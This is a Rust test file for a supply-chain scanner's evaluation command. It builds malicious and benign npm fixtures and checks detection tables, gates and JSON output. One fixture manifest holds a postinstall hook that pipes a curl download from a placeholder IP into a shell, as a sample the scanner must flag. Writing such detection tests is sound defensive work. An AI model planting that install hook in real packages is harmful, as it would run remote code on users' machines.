//! `dsca eval` end to end, offline: a tiny development corpus in a temporary directory,
//! benign lists of each format and the installers' list against the local test registry.

mod common;

use common::{dsca, publish_at, run};
use dsca_test::{PackageBuilder, TempHome, TestRegistry};
use std::path::Path;

/// Write an unpacked package: `package.json` and `index.js`.
fn fixture(dir: &Path, package_json: &str) {
    std::fs::create_dir_all(dir).expect("mkdir");
    std::fs::write(dir.join("package.json"), package_json).expect("write package.json");
    std::fs::write(dir.join("index.js"), "module.exports = (a, b) => a + b;\n")
        .expect("write index.js");
}

/// Certainly flagged: an install hook that pipes a download into a shell.
const DROPPER: &str = r#"{"name": "fixture-dropper", "version": "1.0.0",
  "scripts": {"postinstall": "curl http://192.0.2.1/x | sh"}}"#;
/// Certainly clean: a library with nothing to run.
const HONEST: &str = r#"{"name": "fixture-honest", "version": "1.0.0",
  "description": "adds two numbers", "main": "index.js",
  "repository": "github:example/fixture-honest"}"#;

/// `corpus/malicious/install-dropper/{curl-sh}` and its README, and
/// `corpus/benign/install-dropper/{honest-build}`.
fn tiny_corpus(home: &TempHome) -> std::path::PathBuf {
    let corpus = home.project_dir().join("corpus");
    let technique = corpus.join("malicious/install-dropper");
    fixture(&technique.join("curl-sh"), DROPPER);
    std::fs::write(technique.join("README.md"), "# install droppers\n").expect("README");
    fixture(&corpus.join("benign/install-dropper/honest-build"), HONEST);
    corpus
}

fn eval(home: &TempHome, args: &[&str]) -> common::Run {
    run(dsca(home).args(["eval", "--offline"]).args(args))
}

#[test]
fn corpus_table_counts_each_technique_and_the_near_misses() {
    let home = TempHome::new();
    tiny_corpus(&home);
    let out = eval(
        &home,
        &[
            "--corpus",
            "corpus",
            "--min-corpus-flagged",
            "1.0",
            "--max-near-miss-flagged",
            "0",
        ],
    );
    assert_eq!(out.code, 0, "{out}");
    assert!(
        out.stdout
            .contains("dsca eval: 2 corpus fixtures (1 malicious, 1 near misses)"),
        "{out}"
    );
    assert!(
        out.stdout
            .contains("| technique | fixtures | flagged | judged malicious | missed |"),
        "{out}"
    );
    // One fixture, flagged, none missed (the README is no fixture).
    let row = out
        .stdout
        .lines()
        .find(|l| l.starts_with("| install-dropper |"))
        .unwrap_or_else(|| panic!("no row for the technique: {out}"));
    assert!(row.starts_with("| install-dropper | 1 | 1 | "), "{row}");
    assert!(row.ends_with(" |  |"), "nothing missed: {row}");
    assert!(
        out.stdout.contains("| **total** | 1 | 1 (100.0%) |"),
        "{out}"
    );
    assert!(
        out.stdout.contains(
            "Near misses (benign fixtures): 1, 0 flagged (suspicious or malicious), 0 could not be scanned"
        ),
        "{out}"
    );
    assert!(
        out.stdout.contains("gate passed: --min-corpus-flagged 1"),
        "{out}"
    );
    assert!(out.stdout.contains("| time per package |"), "{out}");
}

#[test]
fn corpus_gates_fail_on_a_missed_fixture_and_a_flagged_near_miss() {
    let home = TempHome::new();
    let corpus = tiny_corpus(&home);
    // Honest code filed as malicious is missed; a broken one is missed with its error.
    fixture(&corpus.join("malicious/exfiltration/quiet"), HONEST);
    fixture(
        &corpus.join("malicious/exfiltration/broken"),
        r#"{ "name": "x", "#,
    );
    // A dropper filed as a near miss is a flagged near miss.
    fixture(&corpus.join("benign/install-dropper/loud"), DROPPER);
    let out = eval(
        &home,
        &[
            "--corpus",
            "corpus",
            "--min-corpus-flagged",
            "1.0",
            "--max-near-miss-flagged",
            "0",
        ],
    );
    assert_eq!(out.code, 1, "{out}");
    let row = out
        .stdout
        .lines()
        .find(|l| l.starts_with("| exfiltration |"))
        .unwrap_or_else(|| panic!("no row for exfiltration: {out}"));
    assert!(row.starts_with("| exfiltration | 2 | 0 | 0 | "), "{row}");
    assert!(
        row.contains("broken (error: manifest: package.json cannot be read"),
        "{row}"
    );
    assert!(row.contains("quiet"), "{row}");
    assert!(
        out.stdout.contains("| **total** | 3 | 1 (33.3%) |"),
        "{out}"
    );
    assert!(
        out.stdout
            .contains("Near misses (benign fixtures): 2, 1 flagged"),
        "{out}"
    );
    let near = out
        .stdout
        .lines()
        .find(|l| l.contains("install-dropper/loud"))
        .unwrap_or_else(|| panic!("the flagged near miss is not listed: {out}"));
    assert!(
        near.trim_start().starts_with("suspicious") || near.trim_start().starts_with("malicious"),
        "{near}"
    );
    assert!(near.contains("DSCA"), "its top reason: {near}");
    assert!(
        out.stdout.contains(
            "gate FAILED: --min-corpus-flagged 1: 0.333 (1 of 3 malicious fixtures flagged)"
        ),
        "{out}"
    );
    assert!(
        out.stdout
            .contains("gate FAILED: --max-near-miss-flagged 0: 1 of 2 near misses flagged"),
        "{out}"
    );

    // The same corpus passes bars it meets.
    let out = eval(
        &home,
        &[
            "--corpus",
            "corpus",
            "--min-corpus-flagged",
            "0.3",
            "--max-near-miss-flagged",
            "1",
        ],
    );
    assert_eq!(out.code, 0, "{out}");

    // The same figures as JSON, for scripts: the exit status still follows the gates.
    let out = eval(
        &home,
        &[
            "--corpus",
            "corpus",
            "--min-corpus-flagged",
            "1.0",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 1, "{out}");
    let evaluation = out.json();
    let exfiltration = &evaluation["corpus"]["techniques"][0];
    assert_eq!(exfiltration["technique"], "exfiltration");
    assert_eq!(exfiltration["fixtures"], 2);
    assert_eq!(exfiltration["flagged"], 0);
    assert_eq!(evaluation["corpus"]["near_misses_flagged"], 1);
    assert_eq!(evaluation["gates"][0]["passed"], false);
    assert_eq!(evaluation["gates"][0]["bar"], "--min-corpus-flagged 1");
}

#[test]
fn usage_errors_exit_2() {
    let home = TempHome::new();
    tiny_corpus(&home);
    // No set at all.
    assert_eq!(eval(&home, &[]).code, 2);
    // A corpus gate without a corpus.
    let out = eval(
        &home,
        &["--installers", "x.txt", "--min-corpus-flagged", "1"],
    );
    assert_eq!(out.code, 2, "{out}");
    // A fraction above 1.
    let out = eval(&home, &["--corpus", "corpus", "--min-corpus-flagged", "90"]);
    assert_eq!(out.code, 2, "{out}");
    // A corpus without malicious/ or benign/.
    let out = eval(&home, &["--corpus", "corpus/malicious"]);
    assert_eq!(out.code, 2, "{out}");
    // A list that does not exist.
    let out = eval(&home, &["--benign-list", "missing.tsv"]);
    assert_eq!(out.code, 2, "{out}");
    assert!(out.stderr.contains("missing.tsv"), "{out}");
}

#[test]
fn each_benign_list_and_the_installers_are_sets_of_their_own() {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    publish_at(
        &registry,
        PackageBuilder::new("calm-pkg", "1.0.0")
            .manifest_field("description", "adds two numbers".into())
            .manifest_field("repository", "github:example/calm-pkg".into())
            .file("index.js", "module.exports = (a, b) => a + b;\n"),
    );
    // npm's placeholder for a package removed as malware: certainly judged malicious.
    registry.publish(
        PackageBuilder::new("evilpkg", "0.0.1-security")
            .manifest_field("description", "security holding package".into())
            .build(),
    );
    let dir = home.project_dir();
    // The top-10000 format; --top 1 keeps only calm-pkg.
    std::fs::write(
        dir.join("top.tsv"),
        "rank\tname\tversion\tdownloads_a_month\n1\tcalm-pkg\t1.0.0\t10\n2\tevilpkg\t0.0.1-security\t5\n",
    )
    .expect("write");
    // The active sample's format: the downloads are no version.
    std::fs::write(
        dir.join("active.tsv"),
        "name\tversion\tdownloads_a_month\ncalm-pkg\t1.0.0\t52506\nevilpkg\t0.0.1-security\t7\n",
    )
    .expect("write");
    std::fs::write(
        dir.join("risky.txt"),
        "# installers that download binaries\ncalm-pkg\nevilpkg\n",
    )
    .expect("write");
    std::fs::write(dir.join("calm.txt"), "calm-pkg\n").expect("write");
    let eval = |args: &[&str]| {
        run(dsca(&home)
            .args(["eval", "--registry", registry.url(), "--top", "1"])
            .args(args))
    };

    let out = eval(&[
        "--benign-list",
        "top.tsv",
        "--benign-list",
        "active.tsv",
        "--installers",
        "calm.txt",
        "--max-benign-malicious",
        "0",
    ]);
    assert_eq!(out.code, 0, "{out}");
    assert!(
        out.stdout.contains("dsca eval: 1 top, 1 active, 1 calm"),
        "{out}"
    );
    for set in ["top", "active", "calm"] {
        assert!(
            out.stdout
                .contains(&format!("| {set} | 1 | 0 | 0 (0.0%) |")),
            "{set}: {out}"
        );
    }
    assert!(
        out.stdout
            .contains("gate passed: --max-benign-malicious 0 [active]"),
        "{out}"
    );
    assert!(
        out.stdout
            .contains("gate passed: --installers [calm]: none malicious"),
        "{out}"
    );

    // --top 2: evilpkg is in both lists now, and each list fails its own bar.
    let out = run(dsca(&home).args([
        "eval",
        "--registry",
        registry.url(),
        "--top",
        "2",
        "--benign-list",
        "top.tsv",
        "--benign-list",
        "active.tsv",
        "--max-benign-malicious",
        "0.6",
    ]));
    assert_eq!(out.code, 0, "1 of 2 is below 0.6: {out}");
    assert!(
        out.stdout.contains("| active | 2 | 0 | 1 (50.0%) |"),
        "{out}"
    );
    assert!(
        out.stdout
            .contains("malicious  [top] evilpkg@0.0.1-security"),
        "{out}"
    );

    // An installer judged malicious fails the run and is named.
    let out = eval(&["--installers", "risky.txt"]);
    assert_eq!(out.code, 1, "{out}");
    assert!(
        out.stdout.contains(
            "gate FAILED: --installers [risky]: none malicious: judged malicious: evilpkg"
        ),
        "{out}"
    );
}
